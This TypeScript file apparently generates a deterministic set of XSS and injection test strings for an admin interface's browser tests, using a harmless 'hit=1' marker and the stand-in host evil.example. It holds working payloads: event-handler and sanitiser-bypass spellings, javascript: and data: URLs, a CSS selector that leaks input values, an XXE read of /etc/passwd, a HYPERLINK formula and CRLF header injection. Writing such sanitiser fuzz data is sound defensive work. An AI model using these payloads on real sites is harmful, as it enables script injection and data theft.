/**
 * Texts that want to be more than text in a page, some thousand different ones, made of parts: tags and handlers, addresses, styles,
 * foreign content, templates, markdown, objects, broken quotes, escapes, invisible characters. Whatever runs sets `hit`; whatever is
 * loaded is of a foreign host. Used by the browser tests of the admin. Pure: the same texts in the same order each time.
 */

/** Short, so that many fit where little is allowed. */
const run = 'hit=1';
const evil = '//evil.example';

const handlers = [
  ...['img src=x', 'video src=x', 'audio src=x', 'input type=image src=x', 'image src=x'].map(
    (tag) => [tag, 'onerror'],
  ),
  ...['svg', 'body', 'iframe', 'style', 'link rel=stylesheet href=x', 'script src=x'].map((tag) => [
    tag,
    'onload',
  ]),
  ...['input', 'textarea', 'select', 'button', 'a href=#', 'p tabindex=0', 'keygen'].map((tag) => [
    `${tag} autofocus`,
    'onfocus',
  ]),
  ...['onanimationstart', 'ontransitionend', 'onpointerenter', 'onmouseover', 'onwheel'].map(
    (on) => ['b style=position:fixed;inset:0', on],
  ),
  ...['oncontentvisibilityautostatechange', 'onscrollend', 'onbeforetoggle', 'ontoggle'].map(
    (on) => ['p popover id=p', on],
  ),
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['dialog open', 'onclose'],
  ['form', 'onformdata'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['track src=x default', 'onerror'],
  ['source src=x', 'onerror'],
  ['frameset', 'onload'],
  ['math', 'onpointerover'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['x-a contenteditable', 'onbeforeinput'],
] as [tag: string, on: string][];

/** Ways to write `<tag on=code>` that browsers, filters and sanitisers have read differently. */
const spellings: ((tag: string, on: string) => string)[] = [
  (tag, on) => `<${tag} ${on}=${run}>`,
  (tag, on) => `<${tag} ${on}="${run}">`,
  (tag, on) => `<${tag.replaceAll(' ', '/')}/${on}='${run}'>`,
  (tag, on) => `<${tag.toUpperCase()} ${on.toUpperCase()}=\`${run}\`>`,
  (tag, on) => `<${tag}\n\t${on}\n=\n${run}>`,
  (tag, on) => `"><${tag} ${on}=${run}>`,
  (tag, on) => `' ${on}='${run}' x='<${tag}`,
  (tag, on) => `--><${tag} ${on}=${run}>`,
  (tag, on) => `<!--><${tag} ${on}=${run}>`,
  (tag, on) => `</textarea></title></style></script></template><${tag} ${on}=${run}>`,
  (tag, on) => `<svg><desc><${tag} ${on}=${run}>`,
  (tag, on) => `<math><annotation-xml encoding=text/html><${tag} ${on}=${run}>`,
  (tag, on) => `<noscript><p title="</noscript><${tag} ${on}=${run}>">`,
  (tag, on) => `<template shadowrootmode=open><slot></slot><${tag} ${on}=${run}></template>`,
  (tag, on) => `&lt;${tag} ${on}=${run}&gt;`,
  (tag, on) => `&#60;${tag} ${on}=${run}&#x3e`,
  (tag, on) => `\\u003c${tag} ${on}=${run}\\x3e`,
  (tag, on) => `%3C${tag} ${on}=${run}%3E`,
  (tag, on) => `\uff1c${tag} ${on}=${run}\uff1e`,
  (tag, on) => `+ADw-${tag} ${on}=${run}+AD4-`,
  (tag, on) => `<${tag.slice(0, 2)}\u200b${tag.slice(2)} ${on}=${run}>`,
  (tag, on) => `\u202e<${tag} ${on}=${run}>\u202c`,
  (tag, on) => `\u2066<${tag}\u2028${on}=${run}>\u2069`,
  (tag, on) => `<${tag} x="\u00a0"${on}=${run}//`,
  (tag, on) => `]]><${tag} ${on}=${run}>`,
];

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `javascript://%0a${run}`,
  `javascript:/*--></title>*/${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:https:${evil}/x`,
  `filesystem:https:${evil}/x`,
  `view-source:https:${evil}`,
  `https:${evil}/p`,
  evil,
  '\\\\evil.example',
  '/\\evil.example',
  '/%09/evil.example',
  'https:evil.example',
  'https://us@evil.example',
  `file:///etc/passwd`,
];
/** Where an address is put. */
const places: ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<img srcset="${address} 1x, ${address} 2x">`,
  (address) => `<picture><source srcset="${address}"><img></picture>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<form action="${address}"><input type=submit></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<link rel=modulepreload href="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<svg><use href="${address}#x"></use></svg>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<svg><image href="${address}"/></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}">`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<body background="${address}">`,
  (address) => `<a ping="${address}" href=x>x</a>`,
  (address) => `<p style="background:url('${address}')">`,
  (address) => `<style>@import '${address}';</style>`,
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
  (address) => `[x](<${address}> "t")`,
  (address) => `<${address}>`,
  (address) => `[x][1]\n\n[1]: ${address}`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[^1]: ${address}`,
  (address) => `| a |\n|---|\n| [x](${address}) |`,
];

const styles = [
  `*{display:none!important}`,
  `@font-face{font-family:x;src:url(https:${evil}/f)}`,
  `body{background:url(https:${evil}/b)}`,
  `input[value^=a]{background:url(https:${evil}/a)}`,
  `x:expression(${run})`,
  `-moz-binding:url(https:${evil}/x#x)`,
  `@namespace url(https:${evil})`,
  `behavior:url(https:${evil}/x.htc)`,
].flatMap((css) => [
  `<style>${css}</style>`,
  `<p style="${css}">`,
  `</style><style>${css}`,
  `;}${css}{`,
]);

const image = '{"src":"x","onerror":"hit=1"}';
const markup = '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit=1>"}}';
const objects = [image, markup, '{"innerHTML":"<b>"}', '{"href":"javascript:hit=1"}'].flatMap(
  (props) => [
    `{"type":"img","props":${props},"key":null,"ref":null,"__k":null,"__b":0,"__e":null}`,
    `{"$$typeof":"Symbol(react.element)","type":"img","props":${props}}`,
    `{"__proto__":${props}}`,
    `{"constructor":{"prototype":${props}}}`,
    `[["img",${props}]]`,
  ],
);

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${run}')}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `[[${run}]]`,
  `{% ${run} %}`,
  `{{{${run}}}}`,
  `{{name}} {{contact.email}} {{secret}}`,
  `<p v-html="'<img src=x onerror=${run}>'">`,
  `<p x-data x-init="${run}">`,
  `<p ng-app ng-init="${run}">`,
  `<p hx-on:load="${run}" hx-get="https:${evil}">`,
  `<p is=x-a data-bind="html:'${run}'">`,
];

const oddities = [
  `__proto__`,
  `constructor`,
  `toString`,
  `dangerouslySetInnerHTML`,
  `</script><script>${run}</script>`,
  `<script>${run}</script>`,
  `<script type=module>${run}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["https:${evil}"]}]}</script>`,
  `<script type=importmap>{"imports":{"preact":"https:${evil}/x.js"}}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\u0020src=data:,${run}>`,
  `<?xml-stylesheet href="https:${evil}/x"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`,
  `<table><td background=https:${evil}/t>`,
  `<isindex action=javascript:${run}>`,
  `\u202eLRM\u200e RLM\u200f ALM\u061c \u2067isolated`,
  `\u0627\u0644\u0639 <b>\u05d0</b> \u202d1`,
  `Z\u0351\u036b\u0343\u0363a\u0348\u031d\u031f\u0316l\u0321g\u0336o`,
  `\ufeffBOM \u00adsoft \u2060joined \u180e`,
  `\u001b[2J\u001b]0;x\u0007 ansi`,
  `\u{e0041}\u{e0042} tags \u{1f3f4}\u{e0067}\u{e007f}`,
  `a\u0300\u0489\u20dd ﷽ ㍿ ﬃ`,
  `x`.repeat(80),
  `%0d%0aSet-Cookie:x=1`,
  `=HYPERLINK("https:${evil}")`,
  `';${run};'`,
  `";${run};"`,
  `\`;${run};\``,
  `\\";${run}//`,
];

/** Every way once; those of one kind do not lie together, so that any stretch has some of each. */
export const hostileRows: readonly string[] = [
  ...spellings.flatMap((spelling, s) =>
    handlers.map((_, h) => {
      const [tag, on] = handlers[(h + s) % handlers.length] as [string, string];
      return spelling(tag, on);
    }),
  ),
  ...places.flatMap((place, p) =>
    schemes.map((_, s) => place(schemes[(s + p) % schemes.length] ?? '')),
  ),
  ...styles,
  ...objects,
  ...templates,
  ...oddities,
]
  .map((row, at) => ({ row, order: (at * 7_919) % 100_003 }))
  .toSorted((a, b) => a.order - b.order)
  .map(({ row }) => row);
